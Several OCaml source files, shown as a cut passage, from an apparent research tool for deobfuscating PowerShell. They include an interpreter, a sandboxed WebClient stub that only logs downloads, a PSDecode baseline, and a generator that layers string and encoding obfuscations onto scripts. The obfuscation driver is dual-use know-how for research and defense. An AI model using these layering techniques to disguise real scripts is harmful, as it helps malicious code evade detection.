      let ccond = compile_stmt src cond and cbody = compile_stmt src body in
      Some
        (fun ctx ->
          let out = ref [] in
          (try
             while Value.to_bool (Value.of_list (ccond ctx)) do
               Env.tick ctx.Interp.env;
               try out := !out @ cbody ctx with Interp.Continue_exc -> ()
             done
           with Interp.Break_exc -> ());
          !out)
  | A.Do_while_stmt (body, cond) ->
      let cbody = compile_stmt src body and ccond = compile_stmt src cond in
      Some
        (fun ctx ->
          let out = ref [] in
          (try
             let continue = ref true in
             while !continue do
               Env.tick ctx.Interp.env;
               (try out := !out @ cbody ctx with Interp.Continue_exc -> ());
               continue := Value.to_bool (Value.of_list (ccond ctx))
             done
           with Interp.Break_exc -> ());
          !out)
  | A.Do_until_stmt (body, cond) ->
      let cbody = compile_stmt src body and ccond = compile_stmt src cond in
      Some
        (fun ctx ->
          let out = ref [] in
          (try
             let continue = ref true in
             while !continue do
               Env.tick ctx.Interp.env;
               (try out := !out @ cbody ctx with Interp.Continue_exc -> ());
               continue := not (Value.to_bool (Value.of_list (ccond ctx)))
             done
           with Interp.Break_exc -> ());
          !out)
  | A.For_stmt (init, cond, step, body) ->
      let cinit = Option.map (compile_stmt src) init in
      let ccond = Option.map (compile_stmt src) cond in
      let cstep = Option.map (compile_stmt src) step in
      let cbody = compile_stmt src body in
      Some
        (fun ctx ->
          (match cinit with Some s -> ignore (s ctx) | None -> ());
          let out = ref [] in
          (try
             let check () =
               match ccond with
               | Some c -> Value.to_bool (Value.of_list (c ctx))
               | None -> true
             in
             while check () do
               Env.tick ctx.Interp.env;
               (try out := !out @ cbody ctx with Interp.Continue_exc -> ());
               match cstep with Some s -> ignore (s ctx) | None -> ()
             done
           with Interp.Break_exc -> ());
          !out)
  | A.Foreach_stmt (var, coll, body) -> (
      match var.A.node with
      | A.Variable_expr v ->
          let name = v.A.var_name in
          let ccoll = compile_stmt src coll and cbody = compile_stmt src body in
          Some
            (fun ctx ->
              let items = Value.to_list (Value.of_list (ccoll ctx)) in
              let out = ref [] in
              (try
                 List.iter
                   (fun item ->
                     Env.tick ctx.Interp.env;
                     Env.set_var ctx.Interp.env name item;
                     try out := !out @ cbody ctx with Interp.Continue_exc -> ())
                   items
               with Interp.Break_exc -> ());
              !out)
      | _ -> None)
  | A.Function_def (name, params, body) ->
      let fn = { Env.fn_params = params; fn_body = body } in
      Some
        (fun ctx ->
          Env.define_function ctx.Interp.env name fn;
          [])
  | A.Param_block names ->
      Some
        (fun ctx ->
          bind_param_defaults ctx.Interp.env names;
          [])
  | A.Return_stmt value ->
      let cv = Option.map (compile_stmt src) value in
      Some
        (fun ctx ->
          let out = match cv with Some v -> v ctx | None -> [] in
          raise (Interp.Return_exc out))
  | A.Break_stmt -> Some (fun _ -> raise Interp.Break_exc)
  | A.Continue_stmt -> Some (fun _ -> raise Interp.Continue_exc)
  | A.Throw_stmt value ->
      let cv = Option.map (compile_stmt src) value in
      Some
        (fun ctx ->
          let v =
            match cv with
            | Some e -> Value.of_list (e ctx)
            | None -> Value.Str "ScriptHalted"
          in
          raise (Interp.Throw_exc v))
  | A.Exit_stmt _ -> Some (fun _ -> raise Interp.Exit_exc)
  | A.Try_stmt (body, catches, finally) ->
      let cbody = compile_stmt src body in
      let ccatch =
        match catches with
        | (_, handler) :: _ -> Some (compile_stmt src handler)
        | [] -> None
      in
      let cfin = Option.map (compile_stmt src) finally in
      let has_catch = catches <> [] in
      Some
        (fun ctx ->
          let run_finally () =
            match cfin with Some f -> ignore (f ctx) | None -> ()
          in
          let run_catch () =
            Env.set_var ctx.Interp.env "_" Value.Null;
            match ccatch with Some h -> h ctx | None -> []
          in
          let result =
            try cbody ctx with
            | Interp.Throw_exc _ when has_catch -> run_catch ()
            | Env.Eval_error _ when has_catch -> run_catch ()
            | Ops.Op_error _ when has_catch -> run_catch ()
            | Value.Conversion_error _ when has_catch -> run_catch ()
          in
          run_finally ();
          result)
  | A.Trap_stmt _ -> Some (fun _ -> [])
  | A.Command_expression e ->
      let ce = compile_expr src e in
      Some (fun ctx -> Value.to_list (ce ctx))
  | A.Postfix_expr ((A.Incr | A.Decr), _) | A.Unary_expr ((A.Incr | A.Decr), _)
    ->
      let ce = compile_expr src t in
      Some
        (fun ctx ->
          ignore (ce ctx);
          [])
  | A.Pipeline _ | A.Command _ | A.Switch_stmt _ ->
      (* command dispatch (builtins, user functions, redirections) keeps
         too much interpreter state to be worth specializing — defer *)
      None
  | _ ->
      (* expression in statement position *)
      let ce = compile_expr src t in
      Some (fun ctx -> Value.to_list (ce ctx))

(* ---------- entry points ---------- *)

let parse_error_message (e : Psparse.Parser.error) =
  Printf.sprintf "syntax error at %d: %s" e.Psparse.Parser.position
    e.Psparse.Parser.message

let compile src =
  match Psparse.Parser.parse src with
  | exception Stack_overflow -> { src; body = Error "stack exhausted while parsing" }
  | Error e -> { src; body = Error (parse_error_message e) }
  | Ok ast ->
      let body =
        (* compilation itself must never take a program down: a blow-up
           while lowering (deep AST, fold hitting the ambient deadline at
           an awkward point) degrades to the plain walker *)
        try compile_stmt src ast
        with _ -> fun ctx -> Interp.eval_statement ctx ast
      in
      { src; body = Ok body }

let source p = p.src

(* Mirrors [Interp.run_script] observably: the [interp.eval] chaos probe
   fires first and its injected faults propagate uncaught; the stored
   parse error (if any) is returned after the probe, exactly where the
   walker's parse would have failed. *)
let run_script env p =
  Pscommon.Chaos.probe "interp.eval";
  match p.body with
  | Error msg -> Error msg
  | Ok f -> (
      let ctx = { Interp.env; src = p.src } in
      match
        try f ctx with
        | Interp.Return_exc out -> out
        | Interp.Exit_exc -> []
      with
      | out -> Ok out
      | exception Interp.Throw_exc v ->
          Error ("uncaught throw: " ^ Value.to_string v)
      | exception e -> (
          match Interp.describe_exception e with
          | Some msg -> Error msg
          | None -> raise e))

(* Mirrors [Interp.invoke_piece]: same span name, attributes, and the
   span-left-open behavior when a foreign exception escapes. *)
let run env p =
  let module T = Pscommon.Telemetry in
  let sid =
    if T.active () then
      T.span_begin "interp.invoke_piece"
        ~attrs:
          [ ("depth", T.I env.Env.invoke_depth);
            ("bytes", T.I (String.length p.src)) ]
    else 0
  in
  let result =
    match run_script env p with
    | Ok out -> Ok (Value.of_list out)
    | Error msg -> Error msg
  in
  if sid <> 0 then
    T.span_end sid
      ~attrs:
        [ ("steps", T.I env.Env.steps); ("ok", T.B (Result.is_ok result)) ];
  result
