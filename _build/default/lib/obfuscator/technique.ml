(** The obfuscation-technique taxonomy of the paper (Table II).

    Levels follow §II-B: L1 only affects text/readability, L2 changes lexical
    features and AST shape but keeps character-level information, L3 also
    hides character-level information. *)

type t =
  (* L1 — randomization & alias *)
  | Ticking
  | Whitespacing
  | Random_case
  | Random_name
  | Alias_sub
  (* L2 — string-related *)
  | Str_concat
  | Str_reorder
  | Str_replace
  | Str_reverse
  (* L3 — encodings and wrappers *)
  | Enc_binary
  | Enc_octal
  | Enc_ascii
  | Enc_hex
  | Enc_base64
  | Enc_whitespace
  | Enc_specialchar
  | Enc_bxor
  | Secure_string_enc
  | Deflate_compress

let all =
  [ Ticking; Whitespacing; Random_case; Random_name; Alias_sub; Str_concat;
    Str_reorder; Str_replace; Str_reverse; Enc_binary; Enc_octal; Enc_ascii;
    Enc_hex; Enc_base64; Enc_whitespace; Enc_specialchar; Enc_bxor;
    Secure_string_enc; Deflate_compress ]

let level = function
  | Ticking | Whitespacing | Random_case | Random_name | Alias_sub -> 1
  | Str_concat | Str_reorder | Str_replace | Str_reverse -> 2
  | Enc_binary | Enc_octal | Enc_ascii | Enc_hex | Enc_base64 | Enc_whitespace
  | Enc_specialchar | Enc_bxor | Secure_string_enc | Deflate_compress ->
      3

let name = function
  | Ticking -> "ticking"
  | Whitespacing -> "whitespacing"
  | Random_case -> "random-case"
  | Random_name -> "random-name"
  | Alias_sub -> "alias"
  | Str_concat -> "concatenate"
  | Str_reorder -> "reorder"
  | Str_replace -> "replace"
  | Str_reverse -> "reverse"
  | Enc_binary -> "encode-binary"
  | Enc_octal -> "encode-octal"
  | Enc_ascii -> "encode-ascii"
  | Enc_hex -> "encode-hex"
  | Enc_base64 -> "encode-base64"
  | Enc_whitespace -> "encode-whitespace"
  | Enc_specialchar -> "encode-specialchar"
  | Enc_bxor -> "encode-bxor"
  | Secure_string_enc -> "securestring"
  | Deflate_compress -> "compress-deflate"

let of_name s =
  List.find_opt (fun t -> String.equal (name t) s) all

let l1 = List.filter (fun t -> level t = 1) all
let l2 = List.filter (fun t -> level t = 2) all
let l3 = List.filter (fun t -> level t = 3) all
