(** Instance members and methods on runtime values.

    Covers the .NET surface that obfuscated recovery code calls: the string
    API (Replace/Split/Substring/…), array Length/Count, stream ReadToEnd,
    encoding GetString/GetBytes, and WebClient's download methods (side
    effects, so they go through {!Env.record}). *)

open Psvalue
module Strcase = Pscommon.Strcase

exception Member_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Member_error s)) fmt

let arg_string = function
  | [ v ] -> Value.to_string v
  | args -> fail "expected 1 argument, got %d" (List.length args)

(* ---------- properties ---------- *)

let get_property v name =
  let n = Strcase.lower name in
  match (v, n) with
  | Value.Str s, "length" -> Some (Value.Int (String.length s))
  | Value.Arr a, ("length" | "count") -> Some (Value.Int (Array.length a))
  | Value.Hash pairs, ("count" | "length") -> Some (Value.Int (List.length pairs))
  | Value.Hash pairs, ("keys") ->
      Some (Value.Arr (Array.of_list (List.map fst pairs)))
  | Value.Hash pairs, ("values") ->
      Some (Value.Arr (Array.of_list (List.map snd pairs)))
  | Value.Hash pairs, key -> (
      (* hashtables expose entries as properties *)
      match
        List.find_opt (fun (k, _) -> Strcase.equal (Value.to_string k) key) pairs
      with
      | Some (_, value) -> Some value
      | None -> None)
  | Value.Str _, "chars" -> None (* method-style only *)
  | Value.Secure_string s, "length" -> Some (Value.Int (String.length s))
  | Value.Obj { okind = Value.Memory_stream st; _ }, "length" ->
      Some (Value.Int (String.length st.Value.data))
  | Value.Char _, "length" -> Some (Value.Int 1)
  | _, "psobject" -> Some v
  | _ -> None

(* ---------- string methods ---------- *)

let clamp_sub s start len =
  let n = String.length s in
  if start < 0 || start > n then fail "Substring start %d out of range" start
  else
    let len = min len (n - start) in
    String.sub s start len

let split_on_chars s seps =
  if seps = [] then [ s ]
  else
    let is_sep c = List.mem c seps in
    let buf = Buffer.create 16 in
    let parts = ref [] in
    String.iter
      (fun c ->
        if is_sep c then begin
          parts := Buffer.contents buf :: !parts;
          Buffer.clear buf
        end
        else Buffer.add_char buf c)
      s;
    parts := Buffer.contents buf :: !parts;
    List.rev !parts

let string_method s name args =
  let n = Strcase.lower name in
  match (n, args) with
  | "replace", [ a; b ] ->
      (* String.Replace is ordinal case-SENSITIVE, unlike -replace *)
      let needle = Value.to_string a and repl = Value.to_string b in
      if needle = "" then fail "Replace: empty search string"
      else
        let buf = Buffer.create (String.length s) in
        let nl = String.length needle in
        let rec loop i =
          if i > String.length s - nl then
            Buffer.add_substring buf s i (String.length s - i)
          else if String.sub s i nl = needle then begin
            Buffer.add_string buf repl;
            loop (i + nl)
          end
          else begin
            Buffer.add_char buf s.[i];
            loop (i + 1)
          end
        in
        loop 0;
        Some (Value.Str (Buffer.contents buf))
  | "split", seps ->
      let chars =
        List.concat_map
          (fun v ->
            match v with
            | Value.Char c -> [ c ]
            | Value.Str str -> List.init (String.length str) (String.get str)
            | Value.Arr a ->
                List.concat_map
                  (fun x ->
                    let s = Value.to_string x in
                    List.init (String.length s) (String.get s))
                  (Array.to_list a)
            | v -> [ Value.to_char v ])
          seps
      in
      Some
        (Value.Arr
           (Array.of_list (List.map (fun p -> Value.Str p) (split_on_chars s chars))))
  | "substring", [ a ] -> Some (Value.Str (clamp_sub s (Value.to_int a) (String.length s)))
  | "substring", [ a; b ] -> Some (Value.Str (clamp_sub s (Value.to_int a) (Value.to_int b)))
  | "toupper", [] | "toupperinvariant", [] -> Some (Value.Str (String.uppercase_ascii s))
  | "tolower", [] | "tolowerinvariant", [] -> Some (Value.Str (String.lowercase_ascii s))
  | "tochararray", [] -> Some (Value.chars_to_value s)
  | "tostring", _ -> Some (Value.Str s)
  | "trim", [] -> Some (Value.Str (String.trim s))
  | "trim", args ->
      let chars = List.map Value.to_char args in
      let drop c = List.mem c chars in
      let n = String.length s in
      let i = ref 0 and j = ref (n - 1) in
      while !i < n && drop s.[!i] do incr i done;
      while !j >= !i && drop s.[!j] do decr j done;
      Some (Value.Str (String.sub s !i (!j - !i + 1)))
  | "trimstart", [] ->
      let n = String.length s in
      let i = ref 0 in
      while !i < n && (s.[!i] = ' ' || s.[!i] = '\t') do incr i done;
      Some (Value.Str (String.sub s !i (n - !i)))
  | "trimend", [] ->
      let j = ref (String.length s - 1) in
      while !j >= 0 && (s.[!j] = ' ' || s.[!j] = '\t') do decr j done;
      Some (Value.Str (String.sub s 0 (!j + 1)))
  | "startswith", [ a ] ->
      (* ordinal, case-sensitive — .NET default *)
      let prefix = Value.to_string a in
      let lp = String.length prefix in
      Some (Value.Bool (lp <= String.length s && String.sub s 0 lp = prefix))
  | "startswith", [ a; _comparison ] ->
      Some (Value.Bool (Strcase.starts_with ~prefix:(Value.to_string a) s))
  | "endswith", [ a ] ->
      let suffix = Value.to_string a in
      let ls = String.length s and lx = String.length suffix in
      Some (Value.Bool (lx <= ls && String.sub s (ls - lx) lx = suffix))
  | "contains", [ a ] ->
      let needle = Value.to_string a in
      Some (Value.Bool (needle = "" || Strcase.index_opt ~needle s <> None))
  | "indexof", [ a ] -> (
      let needle = Value.to_string a in
      match Strcase.index_opt ~needle s with
      | Some i -> Some (Value.Int i)
      | None -> Some (Value.Int (-1)))
  | "lastindexof", [ a ] ->
      let needle = Value.to_string a in
      let rec last from acc =
        match Strcase.index_opt ~from ~needle s with
        | Some i -> last (i + 1) i
        | None -> acc
      in
      Some (Value.Int (last 0 (-1)))
  | "insert", [ a; b ] ->
      let i = Value.to_int a and piece = Value.to_string b in
      if i < 0 || i > String.length s then fail "Insert index out of range"
      else Some (Value.Str (String.sub s 0 i ^ piece ^ String.sub s i (String.length s - i)))
  | "remove", [ a ] ->
      let i = Value.to_int a in
      if i < 0 || i > String.length s then fail "Remove index out of range"
      else Some (Value.Str (String.sub s 0 i))
  | "remove", [ a; b ] ->
      let i = Value.to_int a and count = Value.to_int b in
      if i < 0 || i + count > String.length s then fail "Remove range invalid"
      else Some (Value.Str (String.sub s 0 i ^ String.sub s (i + count) (String.length s - i - count)))
  | "padleft", [ a ] ->
      let w = Value.to_int a in
      Some (Value.Str (if String.length s >= w then s else String.make (w - String.length s) ' ' ^ s))
  | "padright", [ a ] ->
      let w = Value.to_int a in
      Some (Value.Str (if String.length s >= w then s else s ^ String.make (w - String.length s) ' '))
  | "chars", [ a ] -> Some (Ops.index_string s (Value.to_int a))
  | "normalize", _ -> Some (Value.Str s)
  | "gettype", [] -> Some (Value.Str "System.String")
  | "clone", [] -> Some (Value.Str s)
  | "compareto", [ a ] -> Some (Value.Int (compare s (Value.to_string a)))
  | "equals", [ a ] -> Some (Value.Bool (String.equal s (Value.to_string a)))
  | "getenumerator", [] -> Some (Value.chars_to_value s)
  | _ -> None

(* ---------- streams, encodings, objects ---------- *)

let read_all (st : Value.stream_state) =
  let rest = String.sub st.Value.data st.Value.pos (String.length st.Value.data - st.Value.pos) in
  st.Value.pos <- String.length st.Value.data;
  rest

let encoding_get_string enc data =
  match enc with
  | Value.Enc_unicode -> Encoding.Utf16.decode_lossy data
  | Value.Enc_utf8 | Value.Enc_ascii | Value.Enc_default -> data
  | Value.Enc_utf32 ->
      String.init (String.length data / 4) (fun i ->
          let c = Char.code data.[4 * i] in
          if c < 256 then Char.chr c else '?')

let encoding_get_bytes enc s =
  match enc with
  | Value.Enc_unicode -> Encoding.Utf16.encode s
  | Value.Enc_utf8 | Value.Enc_ascii | Value.Enc_default -> s
  | Value.Enc_utf32 ->
      String.concat "" (List.init (String.length s) (fun i -> String.make 1 s.[i] ^ "\000\000\000"))

let dead_network env =
  if env.Env.downloads_fail then
    raise (Env.Eval_error "WebClient: unable to connect to the remote server")

let object_method env (o : Value.ps_object) name args =
  let n = Strcase.lower name in
  match (o.Value.okind, n, args) with
  | Value.Web_client, "downloadstring", [ url ] ->
      let url = Value.to_string url in
      Env.record env (Env.Http_get url);
      dead_network env;
      (* sandbox: the downloaded payload is a synthetic inert script *)
      Some (Value.Str (Printf.sprintf "# downloaded from %s" url))
  | Value.Web_client, "downloadfile", [ url; path ] ->
      let url = Value.to_string url and path = Value.to_string path in
      Env.record env (Env.Http_download (url, path));
      dead_network env;
      Some Value.Null
  | Value.Web_client, "downloaddata", [ url ] ->
      let url = Value.to_string url in
      Env.record env (Env.Http_get url);
      dead_network env;
      Some (Value.bytes_to_value "MZ")
  | Value.Web_client, "openread", [ url ] ->
      let url = Value.to_string url in
      Env.record env (Env.Http_get url);
      Some
        (Value.Obj
           { Value.otype = "System.IO.MemoryStream";
             okind = Value.Memory_stream { Value.data = ""; pos = 0 } })
  | (Value.Memory_stream st | Value.Deflate_stream st | Value.Gzip_stream st), "toarray", [] ->
      Some (Value.bytes_to_value st.Value.data)
  | (Value.Memory_stream st | Value.Deflate_stream st | Value.Gzip_stream st), "readtoend", [] ->
      Some (Value.Str (read_all st))
  | Value.Stream_reader st, "readtoend", [] -> Some (Value.Str (read_all st))
  | Value.Stream_reader st, "readline", [] ->
      let data = st.Value.data in
      if st.Value.pos >= String.length data then Some Value.Null
      else begin
        let nl =
          match String.index_from_opt data st.Value.pos '\n' with
          | Some i -> i
          | None -> String.length data
        in
        let line = String.sub data st.Value.pos (nl - st.Value.pos) in
        st.Value.pos <- min (String.length data) (nl + 1);
        Some (Value.Str line)
      end
  | (Value.Memory_stream _ | Value.Deflate_stream _ | Value.Gzip_stream _ | Value.Stream_reader _),
    ("close" | "dispose" | "flush"), _ ->
      Some Value.Null
  | Value.Encoding_obj enc, "getstring", [ data ] ->
      Some (Value.Str (encoding_get_string enc (Value.value_to_bytes data)))
  | Value.Encoding_obj enc, "getbytes", [ s ] ->
      Some (Value.bytes_to_value (encoding_get_bytes enc (Value.to_string s)))
  | _, "tostring", _ -> Some (Value.Str o.Value.otype)
  | _, "gettype", [] -> Some (Value.Str o.Value.otype)
  | _ -> None

let invoke_method env v name args =
  match v with
  | Value.Str s -> string_method s name args
  | Value.Char c -> string_method (String.make 1 c) name args
  | Value.Int n -> (
      match Strcase.lower name with
      | "tostring" -> (
          match args with
          | [] -> Some (Value.Str (string_of_int n))
          | [ fmt ] -> Some (Value.Str (Format_op.apply_numeric_format (Value.to_string fmt) v))
          | _ -> None)
      | "gettype" -> Some (Value.Str "System.Int32")
      | "equals" -> (
          match args with
          | [ x ] -> Some (Value.Bool (Value.equal_loose v x))
          | _ -> None)
      | _ -> None)
  | Value.Arr a -> (
      match (Strcase.lower name, args) with
      | "contains", [ x ] ->
          Some (Value.Bool (Array.exists (fun e -> Value.equal_loose e x) a))
      | "indexof", [ x ] ->
          let idx = ref (-1) in
          Array.iteri (fun i e -> if !idx < 0 && Value.equal_loose e x then idx := i) a;
          Some (Value.Int !idx)
      | "tostring", _ -> Some (Value.Str (Value.to_string v))
      | "gettype", [] -> Some (Value.Str "System.Object[]")
      | "clone", [] -> Some (Value.Arr (Array.copy a))
      | "getvalue", [ i ] -> Some (Ops.index_array a (Value.to_int i))
      | _ -> None)
  | Value.Hash pairs -> (
      match (Strcase.lower name, args) with
      | "containskey", [ k ] ->
          Some (Value.Bool (List.exists (fun (key, _) -> Value.equal_loose key k) pairs))
      | "tostring", _ -> Some (Value.Str "System.Collections.Hashtable")
      | _ -> None)
  | Value.Obj o -> object_method env o name args
  | Value.Secure_string _ -> (
      match Strcase.lower name with
      | "tostring" -> Some (Value.Str "System.Security.SecureString")
      | _ -> None)
  | Value.Bool _ | Value.Float _ | Value.Null -> (
      match Strcase.lower name with
      | "tostring" -> Some (Value.Str (Value.to_string v))
      | _ -> None)
  | Value.Script_block _ -> None (* Invoke handled by the interpreter *)
