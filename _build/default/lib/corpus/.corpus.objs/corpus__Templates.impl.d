lib/corpus/templates.ml: Char Encoding List Printf Pscommon Rng String
