lib/encoding/utf16.ml: Char String
