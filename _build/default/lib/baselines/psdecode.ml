(** PSDecode re-implementation (R3MRUM/PSDecode).

    Mechanism: a set of text-replacement rules (strip every backtick,
    normalise a few cmdlet spellings), then execute the script with literal
    [Invoke-Expression]/[IEX] overridden to print its argument; each print
    is a layer, and the last layer is the result.

    Documented failure modes reproduced here: backticks are stripped
    {e everywhere} (including inside strings, which corrupts "`t" escapes);
    only literal IEX spellings are overridden; execution of the sample
    triggers its real side effects and crashes lose all later layers. *)

let strip_ticks_re = lazy (Regexen.Regex.compile "`")

let apply_rules script =
  (* PSDecode's `$Script -replace '``'` — strips ALL backticks *)
  Regexen.Regex.replace (Lazy.force strip_ticks_re) ~template:"" script

let deobfuscate script =
  let cleaned = apply_rules script in
  let final, _layers, events = Override.peel_layers cleaned in
  { Tool.result = final; simulated_seconds = Tool.simulated_cost events }

let tool = { Tool.name = "PSDecode"; deobfuscate }
