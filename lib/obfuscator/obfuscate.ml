(** Top-level obfuscation driver: single techniques, multi-layer
    composition, and the wild-style mixes corpus generation uses. *)

open Pscommon

(** Apply one technique to a whole script.  Always returns a syntactically
    valid script when the input is valid (L1/L2 are patch-based; L3 wraps). *)
let apply rng technique script =
  if List.mem technique Technique.dynamic then Dyn.apply rng technique script
  else
  match Technique.level technique with
  | 1 -> (
      match technique with
      | Technique.Ticking -> L1.ticking rng script
      | Technique.Whitespacing -> L1.whitespacing rng script
      | Technique.Random_case -> L1.random_case rng script
      | Technique.Random_name -> L1.random_name rng script
      | Technique.Alias_sub -> L1.alias_sub rng script
      | _ -> assert false)
  | 2 -> L2.apply rng technique script
  | _ -> L3.apply rng technique script

(** Obfuscated {e piece} for the deobfuscation-ability experiment
    (Table II): the base command rendered with exactly one technique.  L1
    application retries until the technique visibly fired; L3 wrappers use
    obfuscated launcher spellings, as Invoke-Obfuscation's launchers do. *)
let piece rng technique base_command =
  if List.mem technique Technique.dynamic then
    (* the assembly runs as a preamble; the final bare [$v] is the piece
       proper, so the caller can place it in assignment or pipe position *)
    Dyn.statements rng technique ~src:base_command ~var:"v" base_command
    ^ "\n$v"
  else
  match Technique.level technique with
  | 1 ->
      let rec go tries =
        let out = apply rng technique base_command in
        if String.equal out base_command && tries > 0 then go (tries - 1)
        else out
      in
      go 8
  | 2 ->
      (* the piece is a string expression recovering the command text *)
      L2.string_expr rng technique base_command
  | _ -> L3.apply ~launcher:`Obfuscated ~indirect:true rng technique base_command

(** Compose several techniques.  L3 techniques nest (multi-layer); L1/L2
    apply to the current outermost layer. *)
let compose rng techniques script =
  List.fold_left (fun acc t -> apply rng t acc) script techniques

(** A wild-style sample: random techniques at each level following the
    paper's Table I distribution (98% L1, 98% L2, 96% L3 of wild samples). *)
let wild_mix ?(p_l1 = 0.98) ?(p_l2 = 0.98) ?(p_l3 = 0.96) ?launcher rng script =
  let applied = ref [] in
  let use t =
    applied := t :: !applied;
    t
  in
  (* apply a technique from [pool], retrying with another pick when the
     technique happens not to fire on this script *)
  let apply_effective pool script =
    let rec go tries script =
      if tries = 0 then script
      else
        let t = Rng.pick rng pool in
        let out = apply rng t script in
        if String.equal out script then go (tries - 1) script
        else begin
          ignore (use t);
          out
        end
    in
    go 3 script
  in
  (* name randomisation must happen before any encoding wraps statements,
     or the renamed outer script would disagree with payload-defined
     variables *)
  let wants_l1 = Rng.chance rng p_l1 in
  let l1_picks = if wants_l1 then Rng.sample rng (Rng.int_in rng 1 3) Technique.l1 else [] in
  let script =
    if List.mem Technique.Random_name l1_picks then begin
      let out = apply rng Technique.Random_name script in
      if String.equal out script then script
      else begin
        ignore (use Technique.Random_name);
        out
      end
    end
    else script
  in
  let script =
    if Rng.chance rng p_l3 then begin
      (* whitespace encoding is rare in the wild (0.1%, §IV-C1) *)
      let choices =
        List.filter (fun t -> t <> Technique.Enc_whitespace) Technique.l3
      in
      let t =
        if Rng.chance rng 0.002 then Technique.Enc_whitespace
        else Rng.pick rng choices
      in
      let encode s = L3.apply ?launcher ~indirect:(Rng.bool rng) rng (use t) s in
      let script =
        if Technique.level t <> 3 then apply rng (use t) script
        else if Rng.chance rng 0.5 then encode script
        else begin
          (* partial obfuscation: only one statement line is encoded, the
             rest of the script stays in clear — the common wild shape
             (the paper's case script, Fig 7a, is exactly this) *)
          let lines = String.split_on_char '\n' script in
          (* a line can be wrapped only when it is a complete statement on
             its own (not a brace fragment of a larger block) *)
          let encodable l =
            String.trim l <> "" && Psparse.Parser.is_valid_syntax l
            && not (String.contains l '{')
            && not (String.contains l '}')
          in
          let candidates =
            List.filteri (fun _ l -> encodable l) lines |> List.length
          in
          if candidates = 0 then encode script
          else begin
            let target = Rng.int rng candidates in
            let seen = ref (-1) in
            let lines =
              List.map
                (fun l ->
                  if encodable l then begin
                    incr seen;
                    if !seen = target then encode l else l
                  end
                  else l)
                lines
            in
            String.concat "\n" lines
          end
        end
      in
      (* some samples stack a second L3 layer (multi-layer obfuscation) *)
      if Rng.chance rng 0.25 then
        L3.apply ?launcher rng (use (Rng.pick rng choices)) script
      else script
    end
    else script
  in
  (* string-level L2 applies to the outermost layer, like Invoke-Obfuscation
     obfuscating the encoded payload string itself *)
  let script =
    if Rng.chance rng p_l2 then apply_effective Technique.l2 script else script
  in
  let script =
    if wants_l1 then begin
      let pool = List.filter (fun t -> t <> Technique.Random_name) Technique.l1 in
      let n = List.length (List.filter (fun t -> t <> Technique.Random_name) l1_picks) in
      let rec go n script =
        if n = 0 then script else go (n - 1) (apply_effective pool script)
      in
      go (max 1 n) script
    end
    else script
  in
  (script, List.rev !applied)

(** [multilayer rng depth script] stacks [depth] random L3 wrappers. *)
let multilayer rng depth script =
  let choices = List.filter (fun t -> t <> Technique.Enc_whitespace) Technique.l3 in
  let rec go depth acc =
    if depth = 0 then acc else go (depth - 1) (apply rng (Rng.pick rng choices) acc)
  in
  go depth script
