test/test_pscommon.ml: Alcotest Extent Gen List Patch Pscommon QCheck QCheck_alcotest Rng Strcase String
