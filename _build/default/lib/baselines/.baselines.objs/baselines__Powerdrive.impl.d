lib/baselines/powerdrive.ml: Lazy Override Regexen String Tool
