(** The interpreter — the reproduction of [ScriptBlock.Invoke].

    Expressions, pipelines with streaming enumeration, the cmdlets
    obfuscators emit, user functions, and control flow; execution is
    budgeted, and side effects go through {!Env.record}, so [Recovery] mode
    can never touch the outside world. *)

exception Return_exc of Psvalue.Value.t list
exception Break_exc
exception Continue_exc
exception Throw_exc of Psvalue.Value.t
exception Exit_exc

type ctx = { env : Env.t; src : string }

val eval_expr : ctx -> Psast.Ast.t -> Psvalue.Value.t
(** Evaluate an expression node.  @raise Env.Eval_error and friends. *)

val eval_statement : ctx -> Psast.Ast.t -> Psvalue.Value.t list
(** Evaluate a statement, returning its output stream. *)

val run_ast : Env.t -> src:string -> Psast.Ast.t -> Psvalue.Value.t list
(** Evaluate a parsed script; [Return_exc]/[Exit_exc] are absorbed. *)

val run_script : Env.t -> string -> (Psvalue.Value.t list, string) result
(** Parse and evaluate; every evaluation exception is rendered as an error
    message. *)

val invoke_piece : Env.t -> string -> (Psvalue.Value.t, string) result
(** Execute a recoverable piece and return its collected output as one
    value ([Null] / the value / an array) — the paper's "Recovery Based on
    Invoke" (§III-B2). *)

val eval_expression_ast : Env.t -> src:string -> Psast.Ast.t -> Psvalue.Value.t

(** {2 Entry points for {!Compile}}

    The closure compiler specializes the common node shapes and must defer
    to the interpreter's exact semantics for everything it pre-resolves
    only partially (dynamic member names, script-block invocation, .NET
    object construction). *)

val read_variable : ctx -> string -> Psvalue.Value.t
(** [$name] read with the automatic-variable special cases ([$args],
    [$input], [$ofs]) and mode-dependent undefined-variable behavior. *)

val invoke_script_block :
  ctx -> Psvalue.Value.sb -> Psvalue.Value.t list -> input:Psvalue.Value.t list ->
  Psvalue.Value.t list
(** Run a script-block value in a fresh scope with bound parameters. *)

val construct_object : ctx -> string -> Psvalue.Value.t list -> Psvalue.Value.t
(** [New-Object] / [[type]::new()] construction of the simulated objects. *)

val type_display_name : string -> string
(** Display name of a type literal ([[text.encoding]] → ["System.Text.Encoding"]). *)

val strip_braces : string -> string
(** Script-block source text with its outer braces removed. *)

val describe_exception : exn -> string option
(** Render the evaluator's exception family to a message; [None] for
    foreign exceptions. *)
