lib/obfuscator/obfuscate.ml: L1 L2 L3 List Pscommon Psparse Rng String Technique
