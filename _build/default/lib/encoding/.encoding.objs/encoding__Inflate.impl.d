lib/encoding/inflate.ml: Array Bitstream Buffer Char Huffman String
