(** Semantic-equivalence gate: differential effect-log verification with
    edit-log bisection rollback.  See the interface for the contract. *)

module Guard = Pscommon.Guard
module Chaos = Pscommon.Chaos
module T = Pscommon.Telemetry

type verdict =
  | Equivalent
  | Rolled_back of int
  | Diverged
  | Unverifiable of string

let verdict_name = function
  | Equivalent -> "equivalent"
  | Rolled_back _ -> "rolled_back"
  | Diverged -> "diverged"
  | Unverifiable _ -> "unverifiable"

let verdict_detail = function
  | Equivalent | Diverged -> None
  | Rolled_back n -> Some (Printf.sprintf "%d edit(s) rolled back" n)
  | Unverifiable reason -> Some reason

type opts = {
  max_steps : int;
  timeout_s : float;
  max_rounds : int;
  use_ref_cache : bool;
}

let default_opts =
  { max_steps = 400_000; timeout_s = 5.0; max_rounds = 4;
    use_ref_cache = true }

type outcome = {
  verdict : verdict;
  sandbox_runs : int;
  suppressed : Editlog.suppression list;
  rolled_rules : string list;
  dynamic_rolled_back : int;
  verify_ms : float;
}

(* dynamic-recovery edits carry rule keys recover.dynamic.* — counted
   separately so the telemetry plane can tell an aggressive dynamic rule
   from a static one *)
let is_dynamic_rule rule =
